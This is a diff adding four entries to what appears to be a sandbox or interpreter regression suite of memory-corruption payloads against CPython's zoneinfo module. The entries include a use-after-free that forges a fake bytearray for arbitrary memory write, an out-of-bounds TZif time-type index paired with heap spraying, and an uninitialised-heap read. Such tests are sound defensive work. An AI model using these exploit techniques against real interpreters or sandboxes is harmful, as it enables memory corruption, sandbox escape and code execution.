@@ -4292,6 +4292,98 @@ PAYLOADS = [
             r = RendererAgg(-(2**32) + 3000, 3000, 72)
             return list(np.asarray(r.buffer_rgba()).shape)
         """, on={GUARD, EXCEPTION}, off={OK, GUARD, EXCEPTION}),
+    # zoneinfo's C strong cache (a linked list) is walked while a key's __eq__
+    # runs; one that calls ZoneInfo.clear_cache() frees the nodes, a bytearray
+    # buffer refills the current one and points the walk to a node of the
+    # code's making, whose key (a fake bytearray) is handed to the same __eq__.
+    # After the fix a str subclass key is copied to a plain str: no __eq__ runs
+    Payload("zoneinfo-strong-cache-eq-clears-fake-bytearray", """
+        import struct
+        import zoneinfo
+        class K(str):
+            state = []
+            def __eq__(self, other):
+                st = K.state
+                if len(st) == 1:
+                    zoneinfo.ZoneInfo.clear_cache()
+                    st.append([bytearray(st[0]) for i in range(64)])
+                    return False
+                st.append(other)
+                return False
+            def __hash__(self):
+                return hash(str(self))
+        def main():
+            fo = struct.pack("<7q", 1 << 40, id(bytearray), 2**63 - 1, 2**63 - 1, 0, 0, 0)
+            fn = struct.pack("<4q", 0, 0, id(fo) + 32, 0)
+            payload = struct.pack("<3q", id(fn) + 32, 0, 0) + bytes(7)
+            zoneinfo.ZoneInfo.clear_cache()
+            utc = zoneinfo.ZoneInfo("UTC")
+            K.state[:] = [payload]
+            zoneinfo.ZoneInfo(K("Europe/Rome"))
+            fake = K.state[-1]
+            if type(fake) is bytearray:
+                fake[8] = 1         # a write to address 8: all memory is readable and writable
+            return ["held", len(fo), len(fn), str(utc)]
+        """, on={OK}, off={CRASH, OK}),
+    # the same walk reached by ZoneInfo.clear_cache(only_keys=[key]) with a key
+    # of any class of the code's: refused after the fix
+    Payload("zoneinfo-clear-cache-only-keys-eq-clears", """
+        import zoneinfo
+        class Key:
+            def __eq__(self, other):
+                zoneinfo.ZoneInfo.clear_cache()
+                return False
+            def __hash__(self):
+                return 1
+        def main():
+            for name in ("UTC", "Europe/Paris", "Asia/Tokyo", "America/New_York"):
+                zoneinfo.ZoneInfo(name)
+            zoneinfo.ZoneInfo.clear_cache(only_keys=[Key()])
+            return "held"
+        """, on={EXCEPTION}, off={CRASH, OK}),
+    # _zoneinfo's load_data accepts a transition's time type index equal to the
+    # number of types (one past the end of its _ttinfo array): from_file of a
+    # crafted TZif reads the time type from the next 32-byte heap block, a
+    # bytearray's buffer of the code's, and utcoffset() returns its pointer
+    Payload("zoneinfo-tzif-type-index-one-past-end-fake-bytearray", """
+        import datetime
+        import io
+        import struct
+        import zoneinfo
+        def main():
+            fo = struct.pack("<7q", 1 << 40, id(bytearray), 2**63 - 1, 2**63 - 1, 0, 0, 0)
+            a = id(fo) + 32
+            payload = struct.pack("<3q", a, a, a) + bytes(7)
+            head = b"TZif" + bytes(16) + struct.pack(">6l", 0, 0, 0, 2, 1, 4)
+            data = head + struct.pack(">2l", 0, 1000000) + bytes([1, 0]) + \\
+                struct.pack(">lbb", 3600, 0, 0) + b"AAA\\0"
+            src = io.BytesIO(data)
+            spray = [bytearray(payload) for i in range(30000)]
+            for i in range(20000, 30000, 2):
+                spray[i] = None
+            z = zoneinfo.ZoneInfo.from_file(src, key="x")
+            fake = z.utcoffset(datetime.datetime(1970, 1, 3, tzinfo=z))
+            if type(fake) is bytearray:
+                fake[8] = 1         # a write to address 8
+            return ["held", len(fo), len(spray)]
+        """, on={EXCEPTION}, off={CRASH, OK, EXCEPTION}),
+    # no local time type at all: the C code mallocs a zero-length array and a
+    # transition's type (index 0) is read from whatever the heap held there
+    Payload("zoneinfo-tzif-no-types", """
+        import datetime
+        import io
+        import struct
+        import zoneinfo
+        def main():
+            v1 = b"TZif2" + bytes(15) + struct.pack(">6l", 0, 0, 0, 0, 0, 0)
+            v2 = b"TZif2" + bytes(15) + struct.pack(">6l", 0, 0, 0, 2, 0, 0) + \\
+                struct.pack(">2q", 0, 1000000) + bytes([0, 0])
+            z = zoneinfo.ZoneInfo.from_file(io.BytesIO(v1 + v2 + b"\\nAAA-1\\n"))
+            out = []
+            for day in (1, 3, 30):
+                out.append(repr(z.utcoffset(datetime.datetime(1970, 1, day, tzinfo=z))))
+            return out
+        """, on={EXCEPTION}, off={CRASH, OK, EXCEPTION}),
 ]
 
 # Raw system calls the allowlist must refuse (or answer with ENOSYS).
